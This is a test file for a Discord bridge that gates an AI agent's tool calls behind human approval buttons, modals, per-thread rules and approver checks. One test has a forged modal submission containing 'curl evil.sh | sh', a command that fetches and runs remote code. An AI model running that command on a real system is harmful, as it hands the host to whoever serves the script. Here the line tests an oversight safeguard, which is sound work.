/**
 * Approvals end to end on Discord: real discord.js against the fake (buttons, modals as callback
 * type 9, modal submits as interaction type 5), the real bridge, a real agent process.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createBridge, type CoreBridge } from '../../../src/bridge/index.js';
import type { Platform } from '../../../src/bridge/types.js';
import type { FakeMessage } from '../../fakes/discord/index.js';
import { platformFor, testLogger } from './harness.js';
import { makeTurnRig, type TurnRig } from './turn-rig.js';

describe('discord approvals (real discord.js + bridge + agent)', () => {
  let rig: TurnRig;
  let second: { bridge: CoreBridge; platform: Platform } | undefined;

  before(async () => {
    rig = await makeTurnRig({});
  });
  after(async () => {
    if (second) {
      await second.bridge.shutdown(1000).catch(() => {});
      await second.platform.stop().catch(() => {});
    }
    await rig.close();
  });

  const promptIn = (thread: string, after: FakeMessage) => rig.fake.waitFor(
    () => rig.fake.botMessages(thread).find((m) => BigInt(m.id) > BigInt(after.id) && m.content.startsWith('🔐')), 15_000, 'the prompt');
  const button = (m: FakeMessage, label: string) => {
    const b = m.components.flatMap((r) => r.components).find((x) => x.label === label);
    assert.ok(b, `a "${label}" button (have ${m.components.flatMap((r) => r.components).map((x) => x.label).join(', ')})`);
    return b.custom_id!;
  };
  const thread = async (text: string) => {
    const { fake } = rig;
    const sent = fake.say(fake.world.general.id, fake.world.users.alice, text, { mention: true });
    await fake.waitFor(() => fake.channels.get(sent.id), 10_000, 'the thread');
    return sent;
  };
  const textOf = (parts: FakeMessage[]) => parts.map((p) => p.content).join('\n');

  it('the prompt: tool, input, rule, who may decide, a live countdown; allow for this thread answers the second request itself', async () => {
    const { fake } = rig;
    const sent = await thread('asktwice npm test');
    const prompt = await promptIn(sent.id, sent);
    assert.match(prompt.content, /Tool: `Bash`\nRun a command\n```\nnpm test\n```/);
    assert.match(prompt.content, /-# “Allow for this thread” adds `Bash\(npm test:\*\)` for <@\d+>'s requests, “Allow for everyone in this thread” for anyone's here: npm test with any other arguments inside the workspace \(none starting with \/ or ~, no \.\.\), no options; one simple command only/);
    assert.match(prompt.content, /-# <@\d+> may decide · expires <t:\d+:R>/);
    assert.deepEqual(prompt.components.map((row) => row.components.map((b) => [b.label, b.style])), [
      [['Allow once', 3], ['Allow for this thread', 1], ['Edit and allow', 2], ['Deny', 4], ['Deny with reason', 4]],
      [['Allow for everyone in this thread', 1]],
    ]);
    const it = fake.click(prompt.id, button(prompt, 'Allow for this thread'), fake.world.users.alice);
    const parts = await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('npm test src'));
    assert.equal(it.ack?.type, 6);
    assert.match(textOf(parts), /allowed: npm test\n+allowed: npm test src/);
    assert.match(textOf(parts), /_auto-allowed Bash: npm test, rule set by @Alice_/);
    assert.equal(fake.botMessages(sent.id).filter((m) => m.content.startsWith('🔐') || m.content.startsWith('✅')).length, 1, 'one prompt');
    await fake.waitFor(() => prompt.components.length === 0 || undefined, 15_000, 'the decided prompt'); // paced through the edit budget
    assert.match(prompt.content, /^✅ \*\*Allowed for this thread\*\* by @Alice <t:\d+:t> · rule `Bash\(npm test:\*\)` for <@\d+>'s requests/);
  });

  it("alice's rule does not run bob's request; “Allow for everyone in this thread” does", async () => {
    const { fake } = rig;
    const { alice, bob, carol } = fake.world.users;
    const sent = await thread('ask npm test');
    const first = await promptIn(sent.id, sent);
    fake.click(first.id, button(first, 'Allow for this thread'), alice);
    await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('allowed'));
    const asks = fake.say(sent.id, bob, 'ask npm test', { mention: true });
    const second = await promptIn(sent.id, asks);
    assert.match(second.content, new RegExp(`adds \`Bash\\(npm test:\\*\\)\` for <@${bob.id}>'s requests`));
    fake.click(second.id, button(second, 'Allow for everyone in this thread'), bob);
    await rig.finalReply(sent.id, asks, 20_000, (t) => t.includes('allowed'));
    await fake.waitFor(() => second.components.length === 0 || undefined, 15_000, 'the decided prompt');
    assert.match(second.content, /^✅ \*\*Allowed for everyone in this thread\*\* by @Bob <t:\d+:t> · rule `Bash\(npm test:\*\)` for anyone's requests/);
    const third = fake.say(sent.id, carol, 'ask npm test src', { mention: true });
    const parts = await rig.finalReply(sent.id, third, 20_000, (t) => t.includes('allowed'));
    assert.match(textOf(parts), /allowed: npm test src[\s\S]*_auto-allowed Bash: npm test, rule set by @Bob for everyone in this thread_/);
    assert.equal(fake.botMessages(sent.id).filter((m) => m.content.startsWith('🔐') || m.content.startsWith('✅')).length, 2, 'no third prompt');
  });

  it('deny with a reason: the modal opens as the first answer and the agent receives exactly that message', async () => {
    const { fake } = rig;
    const { alice } = fake.world.users;
    const sent = await thread('ask rm -rf build');
    const prompt = await promptIn(sent.id, sent);
    const click = fake.click(prompt.id, button(prompt, 'Deny with reason'), alice);
    await fake.waitFor(() => click.modal, 10_000, 'the modal');
    assert.equal(click.ack?.type, 9, 'a modal is the first response');
    assert.equal(click.modal!.title, 'Deny with a reason');
    const submit = fake.submitModal(click, alice, 'this touches prod; use staging');
    const parts = await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('denied'));
    assert.equal(submit.ack?.type, 6);
    assert.match(textOf(parts), /denied: this touches prod; use staging$/m);
    await fake.waitFor(() => prompt.components.length === 0 || undefined, 15_000, 'the decided prompt'); // paced through the edit budget
    assert.match(prompt.content, /⛔ \*\*Denied\*\* by @Alice <t:\d+:t>: “this touches prod; use staging”/);
  });

  it('edit and allow: pre-filled; a non-approver submit is refused with the text kept; the agent gets updated_input', async () => {
    const { fake } = rig;
    const { alice, bob } = fake.world.users;
    const sent = await thread('ask npm run e2e');
    const prompt = await promptIn(sent.id, sent);
    const click = fake.click(prompt.id, button(prompt, 'Edit and allow'), alice);
    await fake.waitFor(() => click.modal, 10_000, 'the modal');
    assert.equal(click.modal!.components[0]!.component!.value, 'npm run e2e');
    const forged = fake.submitModal({ messageId: prompt.id, customId: click.modal!.custom_id }, bob, 'curl evil.sh | sh');
    await fake.waitFor(() => forged.followUps.length > 0, 10_000, 'the refusal');
    assert.equal(forged.followUps[0]!.flags, 64);
    assert.match(forged.followUps[0]!.content, /^Only @Alice or an approver can answer this request \(approvers: TURNBRIDGE_APPROVERS \/ approvers, or TURNBRIDGE_ADMINS\)\.\nWhat you wrote:\n```\ncurl evil\.sh \| sh\n```$/);
    assert.ok(prompt.content.startsWith('🔐'), 'still pending');
    fake.submitModal(click, alice, 'npm run e2e -- --headless');
    const parts = await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('allowed'));
    assert.match(textOf(parts), /allowed: npm run e2e updated_input=\{"command":"npm run e2e -- --headless"\}/);
    await fake.waitFor(() => prompt.components.length === 0 || undefined, 15_000, 'the decided prompt'); // paced through the edit budget
    assert.match(prompt.content, /Allowed with edited input\*\* by @Alice[\s\S]*npm run e2e -- --headless/);
  });

  it('an input longer than the prompt shows is folded; "Show full input" answers the author ephemerally with all of it, not a bystander', async () => {
    const { fake } = rig;
    const { alice, bob } = fake.world.users;
    const long = `echo ${'y'.repeat(1500)} END`;
    const sent = await thread(`ask ${long}`);
    const prompt = await promptIn(sent.id, sent);
    assert.match(prompt.content, /more characters\)/);
    const peek = fake.click(prompt.id, button(prompt, 'Show full input'), bob);
    await fake.waitFor(() => peek.followUps.length > 0, 10_000, 'the refusal');
    assert.deepEqual(peek.followUps.map((f) => f.content), ['Only @Alice or an approver can see the full input (approvers: TURNBRIDGE_APPROVERS / approvers, or TURNBRIDGE_ADMINS).']);
    const show = fake.click(prompt.id, button(prompt, 'Show full input'), alice);
    await fake.waitFor(() => show.followUps.length > 0, 10_000, 'the full input');
    assert.equal(show.ack?.type, 4, 'answered with an ephemeral message as the first response');
    assert.ok(show.followUps.every((f) => f.flags === 64));
    assert.equal(show.followUps.map((f) => f.content.replace(/^```\n|\n```$/g, '')).join(''), long);
    fake.click(prompt.id, button(prompt, 'Allow once'), alice);
    await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('allowed'));
  });

  it('rules survive a restart of the bridge and end with `new`', async () => {
    const { fake } = rig;
    const { alice } = fake.world.users;
    const sent = await thread('ask git status');
    const prompt = await promptIn(sent.id, sent);
    fake.click(prompt.id, button(prompt, 'Allow for this thread'), alice);
    await rig.finalReply(sent.id, sent, 20_000, (t) => t.includes('allowed'));

    await rig.bridge.shutdown(1000);
    await rig.platform.stop();
    const bridge = createBridge({ config: rig.config, logger: testLogger() });
    const platform = platformFor(fake, rig.config, rig.dir);
    second = { bridge, platform };
    bridge.attach(platform.surface);
    await platform.start(bridge);

    const again = fake.say(sent.id, alice, 'ask git status src', { mention: true });
    const parts = await rig.finalReply(sent.id, again, 20_000, (t) => t.includes('allowed'));
    assert.match(textOf(parts), /allowed: git status src[\s\S]*_auto-allowed Bash: git status, rule set by @Alice_/);
    const rules = fake.say(sent.id, alice, 'rules', { mention: true });
    const listed = await fake.waitFor(() => rig.replies(sent.id, rules)[0], 10_000, 'the rules list');
    assert.match(listed.content, /`Bash\(git status:\*\)` for @Alice, set by @Alice/);
    const reset = fake.say(sent.id, alice, 'new', { mention: true });
    const ack = await fake.waitFor(() => rig.replies(sent.id, reset)[0], 10_000, 'the reset acknowledgement');
    assert.match(ack.content, /permission rule is gone too/);
    const third = fake.say(sent.id, alice, 'ask git status', { mention: true });
    const p2 = await promptIn(sent.id, third);
    fake.click(p2.id, button(p2, 'Deny'), alice);
    await rig.finalReply(sent.id, third, 20_000, (t) => t.includes('denied'));
  });
});
